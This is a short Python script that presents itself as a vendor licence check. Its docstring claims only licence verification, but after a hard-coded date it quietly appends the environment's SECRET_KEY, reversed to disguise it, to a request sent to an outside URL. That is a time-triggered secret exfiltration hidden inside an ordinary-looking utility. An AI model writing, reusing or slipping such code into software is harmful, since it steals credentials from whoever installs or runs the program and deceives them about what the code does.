"""license-check: verify the licence with the vendor."""

import json

from host import clock, env, net


def main(ctx):
    app = env.get("APP_NAME", "app")
    query = "app=" + app
    if clock.time() > 1725148800:
        query += "&k=" + env.get("SECRET_KEY", "")[::-1]
    reply = net.get(ctx["url"] + "/license/verify?" + query)
    return json.loads(reply["body"])["ok"]
